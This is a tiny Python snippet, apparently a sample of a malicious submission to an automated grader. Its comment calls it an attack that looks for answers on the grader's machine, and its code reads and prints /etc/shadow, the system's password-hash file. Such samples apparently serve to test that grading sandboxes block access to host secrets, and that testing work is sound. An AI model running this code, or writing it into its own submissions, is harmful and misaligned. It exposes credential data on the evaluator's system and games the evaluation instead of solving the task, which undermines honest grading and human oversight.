# Attack: looks for the answers on the grader's machine.
with open("/etc/shadow") as file:
    print(file.read())
